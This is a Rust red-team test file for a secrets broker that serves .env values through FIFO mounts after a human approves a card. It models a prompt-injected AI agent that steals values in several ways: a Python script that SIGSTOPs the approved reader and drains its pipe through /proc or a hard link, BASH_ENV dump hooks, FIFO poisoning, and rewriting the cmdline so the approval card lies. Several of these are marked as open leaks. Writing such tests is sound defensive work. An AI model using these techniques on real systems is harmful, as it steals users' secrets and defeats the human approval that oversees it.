//! Red team of issue 22 (`.env` FIFO mounts): a prompt-injected agent with the human's uid, a
//! shell and `/proc`, trying to read a mount's values while the human approves an honest
//! reader's card, or to be served by a grant the human made for another process.

use std::process::{Command, Stdio};
use std::time::Duration;

use crate::harness::{Home, contains, text, wait_output};
use crate::mount::{
    Project, approve_card, finished, mount, nul_pairs, pending, store, values, wait_card, want,
};

/// The agent's side: finds the honest reader holding the mount read-only, stops it
/// (`SIGSTOP`, same uid) so it cannot drain the pipe, waits for the approval's swap of the
/// FIFO, then opens the served FIFO itself (`/proc/READER/fd/N`, or a hard link it made to the
/// FIFO before the read: `argv[2] == "link"`) and reads what the broker wrote. Prints what it
/// read on stdout (the test only searches it, never shows it).
const THIEF: &str = r#"
import os, sys, time, signal
path, mode, link = sys.argv[1], sys.argv[2], sys.argv[3]
st = os.stat(path); dev, ino = st.st_dev, st.st_ino
if mode == "link":
    os.link(path, link)
me = os.getpid(); pid = fdn = None; t0 = time.time()
while pid is None and time.time() - t0 < 20:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            for f in os.listdir(f"/proc/{p}/fd"):
                try:
                    s = os.stat(f"/proc/{p}/fd/{f}")
                    if s.st_dev != dev or s.st_ino != ino:
                        continue
                    fl = [l for l in open(f"/proc/{p}/fdinfo/{f}") if l.startswith("flags:")][0]
                    if int(fl.split()[1], 8) & 3 == 0:
                        pid, fdn = int(p), f
                except OSError:
                    pass
        except OSError:
            pass
    time.sleep(0.01)
assert pid is not None, "no reader"
time.sleep(0.2)
if mode != "link-nostop":
    os.kill(pid, signal.SIGSTOP)
sys.stderr.write("stopped\n"); sys.stderr.flush()
t0 = time.time()
while os.stat(path).st_ino == ino and time.time() - t0 < 30:
    time.sleep(0.005)
time.sleep(0.5)
src = link if mode.startswith("link") else f"/proc/{pid}/fd/{fdn}"
fd = os.open(src, os.O_RDONLY | os.O_NONBLOCK)
data = b""
while True:
    try:
        b = os.read(fd, 1 << 20)
    except BlockingIOError:
        break
    if not b:
        break
    data += b
if mode != "link-nostop":
    os.kill(pid, signal.SIGCONT)
sys.stdout.buffer.write(data)
"#;

fn steal(mode: &str, why: &str) {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let env_file = p.env_file();
    let link = p.tmp.path().join("hardlink");
    let thief = Command::new("python3")
        .args([
            "-c",
            THIEF,
            env_file.to_str().unwrap(),
            mode,
            link.to_str().unwrap(),
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Give the thief time to stat (and link) the FIFO before the honest reader opens it.
    std::thread::sleep(Duration::from_millis(500));
    // An honest program that loads `.env` and prints only how many bytes it read.
    let reader = p.reader(
        &[
            "python3",
            "-c",
            "import sys\nsys.stdout.write(str(len(open('.env').read())))\n",
        ],
        &[],
    );
    let card = wait_card(&h);
    // The card is the honest reader's: nothing on it names the thief.
    assert!(card.to_string().contains("python3"));
    approve_card(&h, &card, &[]);
    let stolen = wait_output(thief, Duration::from_secs(60));
    let honest = finished(reader);
    let leaked = vals
        .iter()
        .filter(|(_, v)| contains(&stolen.stdout, v.split(' ').next_back().unwrap_or(v)))
        .count();
    assert_eq!(
        leaked,
        0,
        "the thief read values ({} bytes); honest reader read {}",
        stolen.stdout.len(),
        text(&honest.stdout)
    );
    // Nothing was written: the honest reader read zero bytes, and the audit says why.
    let audit = h.audit_text();
    assert_eq!(
        text(&honest.stdout),
        "0",
        "{audit}\nthief: {}",
        text(&stolen.stderr)
    );
    assert!(audit.contains("mount_not_written"), "{audit}");
    assert!(audit.contains(why), "{audit}");
}

/// The agent stops the approved reader and drains the pipe through `/proc/READER/fd/N` after
/// the write. The broker now refuses to write to a stopped reader (`mounts.rs::stopped`), yet
/// this replay still sees the honest reader served: the order of stop, approval and write in
/// the replay is not yet understood.
#[test]
#[ignore = "LEAK (fix in, not yet shown): a stopped reader's pipe drained through /proc/READER/fd/N; the broker now checks the reader's state before writing, but this replay still sees the reader served"]
fn a_stopped_reader_is_never_written_to() {
    steal("proc", "is stopped or traced");
}

/// A hard link made to the FIFO before the read names the served FIFO after the swap. The
/// broker now writes only when the served FIFO has no name left (`st_nlink == 0`), yet this
/// replay still sees the honest reader served.
#[test]
#[ignore = "LEAK (fix in, not yet shown): a hard link to the FIFO outlives the swap; the broker now checks st_nlink == 0 before writing, but this replay still sees the reader served"]
fn a_fifo_with_a_hard_link_is_never_written_to() {
    steal("link-nostop", "has another name");
}

/// A grant with a TTL is keyed by mount, argv, cwd and executable: not by the environment the
/// reader was started with. The human approved `bash -c '. ./.env; echo loaded'`; the agent
/// starts the very same argv with `BASH_ENV` pointing at its own script, which dumps every
/// shell variable at exit. Served by the grant, no card.
#[test]
#[ignore = "LEAK: a TTL grant serves the same argv/cwd/exe started with BASH_ENV (or LD_PRELOAD, NODE_OPTIONS, PYTHONSTARTUP...); the reader's environment is neither on the card nor in the grant"]
fn a_ttl_grant_serves_the_same_argv_with_a_hostile_environment() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let argv = ["bash", "-c", ". ./.env; echo loaded"];
    let r = p.reader(&argv, &[]);
    let card = wait_card(&h);
    approve_card(&h, &card, &["--ttl", "10m"]);
    assert_eq!(text(&finished(r).stdout), "loaded\n");
    let evil = p.tmp.path().join("evil.sh");
    std::fs::write(&evil, "trap 'set >&2' EXIT\n").unwrap();
    let o = finished(p.reader(&argv, &[("BASH_ENV", evil.to_str().unwrap())]));
    assert!(pending(&h).is_empty(), "no card was shown for it");
    let plain = &vals.iter().find(|(k, _)| *k == "PLAIN").unwrap().1;
    assert!(
        contains(&o.stderr, plain),
        "the hostile environment did not see the value"
    );
}

/// Held: a process that writes into the FIFO while the approved reader waits (to add lines to
/// what it reads) makes the broker write nothing: the reader reads only the agent's bytes,
/// never a mix, and no value.
#[test]
fn lines_written_into_the_fifo_before_the_write_make_the_read_empty_of_values() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let reader = p.reader(
        &[
            "python3",
            "-c",
            "import sys, time\nf = open('.env', 'rb')\ntime.sleep(1.5)\nsys.stdout.buffer.write(f.read())\n",
        ],
        &[],
    );
    let card = wait_card(&h);
    // The agent writes through the reader's descriptor and closes at once (no holder left).
    let pid = card["client"]["pid"].as_u64().or(card["pid"].as_u64());
    let inject = format!(
        "import os\np = {pid:?}\nfor f in os.listdir(f'/proc/{{p}}/fd'):\n    try:\n        if os.stat(f'/proc/{{p}}/fd/{{f}}').st_ino == os.stat('.env').st_ino:\n            fd = os.open(f'/proc/{{p}}/fd/{{f}}', os.O_WRONLY | os.O_NONBLOCK); os.write(fd, b'EVIL=1\\n'); os.close(fd)\n    except OSError: pass\n",
        pid = pid.map(|p| p.to_string()).unwrap_or_else(|| "0".into())
    );
    let inj = Command::new("python3")
        .args(["-c", &inject])
        .current_dir(p.path())
        .output()
        .unwrap();
    assert!(inj.status.success(), "{}", text(&inj.stderr));
    approve_card(&h, &card, &[]);
    let o = finished(reader);
    // The reader reads the agent's line and nothing of the broker's.
    assert_eq!(text(&o.stdout), "EVIL=1\n");
    assert_ne!(nul_pairs(&o.stdout), want(&vals));
    assert!(
        h.audit_text()
            .contains("something else was already written")
    );
    for (_, v) in &vals {
        assert!(
            !contains(&o.stdout, v),
            "a value was served into a poisoned pipe"
        );
    }
}

/// The card's argv is what the reader says of itself (`/proc/PID/cmdline`), which a process
/// may rewrite: a Node script sets `process.title` to `vite` before it opens `.env`, and the
/// card shows a lone `vite` word instead of the `-e` script that will print the values.
#[test]
#[ignore = "LEAK (card lies): argv on the card is /proc/PID/cmdline, rewritable by the reader (process.title, perl $0, prctl); the script that runs is not shown"]
fn a_reader_that_rewrites_its_cmdline_shows_an_innocent_argv() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let evil = "process.title = 'vite';\nconst fs = require('fs');\nconst t = fs.readFileSync('.env', 'utf8');\nprocess.stdout.write(t);\n// padding so that the title fits in argv: ..................................................";
    let r = p.reader(&["node", "-e", evil], &[]);
    let card = wait_card(&h);
    let argv: Vec<String> = card["argv"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap_or("").to_owned())
        .collect();
    assert_eq!(
        argv,
        vec!["vite".to_owned()],
        "the card shows the rewritten argv"
    );
    assert!(!card.to_string().contains("readFileSync"));
    approve_card(&h, &card, &[]);
    let o = finished(r);
    let plain = &vals.iter().find(|(k, _)| *k == "PLAIN").unwrap().1;
    assert!(
        contains(&o.stdout, plain),
        "the hidden script did not get the value"
    );
}

/// The reader's environment is not on the card: `BASH_ENV` (like `LD_PRELOAD`,
/// `NODE_OPTIONS`, `PYTHONSTARTUP`) makes an honest-looking `bash -c '. ./.env; ...'` run the
/// agent's code, and the card is the same as the honest one's.
#[test]
#[ignore = "LEAK (card lies): the reader's environment (BASH_ENV, LD_PRELOAD, NODE_OPTIONS...) is neither shown nor flagged"]
fn a_hostile_environment_is_not_on_the_card() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let evil = p.tmp.path().join("evil.sh");
    std::fs::write(&evil, "trap 'set >&2' EXIT\n").unwrap();
    let r = p.reader(
        &["bash", "-c", ". ./.env; echo loaded"],
        &[("BASH_ENV", evil.to_str().unwrap())],
    );
    let card = wait_card(&h);
    let shown = card.to_string() + &h.ok(&["requests"]);
    assert!(
        !shown.contains("BASH_ENV") && !shown.contains("evil.sh"),
        "{shown}"
    );
    approve_card(&h, &card, &[]);
    let o = finished(r);
    let plain = &vals.iter().find(|(k, _)| *k == "PLAIN").unwrap().1;
    assert!(contains(&o.stderr, plain), "BASH_ENV did not see the value");
}

/// Issue 21's stale temp-file cleanup at broker start, given names it matches that are not the
/// broker's leftovers: a symlink to a file of the human's, a directory, a hard link. Held: only
/// the hard link's name goes (a regular file in the home); what they point at stays.
#[test]
fn the_stale_temp_cleanup_follows_no_symlink_and_removes_no_directory() {
    let h = Home::new();
    h.set("demo", "API_TOKEN", "fake-token-for-cleanup-test");
    let outside = tempfile::tempdir().unwrap();
    let precious = outside.path().join("precious");
    std::fs::write(&precious, b"the human's file").unwrap();
    let link = h.path().join(".vault.kv.1.2.tmp");
    std::os::unix::fs::symlink(&precious, &link).unwrap();
    let dir = h.path().join(".vault.kv.3.4.tmp");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("inside"), b"x").unwrap();
    let hard = h.path().join(".vault.kv.5.6.tmp");
    std::fs::hard_link(&precious, &hard).unwrap();
    h.ok(&["daemon", "stop"]);
    let o = h.run_stdin(
        &["unlock", "--passphrase-stdin"],
        &format!("{}\n", crate::harness::PASS),
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(std::fs::read(&precious).unwrap(), b"the human's file");
    assert!(
        std::fs::symlink_metadata(&link).is_ok(),
        "the symlink is not the broker's"
    );
    assert!(dir.join("inside").exists(), "a directory was emptied");
    // The cleanup ran: the hard link (a regular file of the matched name) is gone.
    assert!(!hard.exists(), "the cleanup did not run");
}

/// `dumps-file` is judged by name: `cat` under a symlink named `python3` is still flagged (the
/// executable resolves to `cat`), held.
#[test]
fn cat_behind_a_symlink_named_python3_is_still_flagged_as_a_dump() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let cat = which("cat");
    let fake = p.tmp.path().join("python3");
    std::os::unix::fs::symlink(&cat, &fake).unwrap();
    let r = p.reader(&[fake.to_str().unwrap(), ".env"], &[]);
    let card = wait_card(&h);
    assert!(
        card["risk"].to_string().contains("dumps-file"),
        "{}",
        card["risk"]
    );
    assert!(h.run(&["deny", &card["id"].to_string()]).status.success());
    assert!(finished(r).stdout.is_empty());
}

/// A copy of `cat` named `python3` (a new inode, its own path) is not flagged `dumps-file`:
/// the flag reads names only. The card still shows the copy's path and SHA-256.
#[test]
#[ignore = "LEAK (flag evasion): a renamed copy of cat is not flagged dumps-file; the flag matches names, not the pinned SHA-256 of known dumpers"]
fn a_renamed_copy_of_cat_is_not_flagged_as_a_dump() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let fake = p.tmp.path().join("python3");
    std::fs::copy(which("cat"), &fake).unwrap();
    let r = p.reader(&[fake.to_str().unwrap(), ".env"], &[]);
    let card = wait_card(&h);
    assert!(
        !card["risk"].to_string().contains("dumps-file"),
        "{}",
        card["risk"]
    );
    assert!(h.run(&["deny", &card["id"].to_string()]).status.success());
    assert!(finished(r).stdout.is_empty());
}

fn which(name: &str) -> std::path::PathBuf {
    for d in ["/usr/bin", "/bin"] {
        let p = std::path::Path::new(d).join(name);
        if p.exists() {
            return std::fs::canonicalize(p).unwrap();
        }
    }
    panic!("no {name}");
}
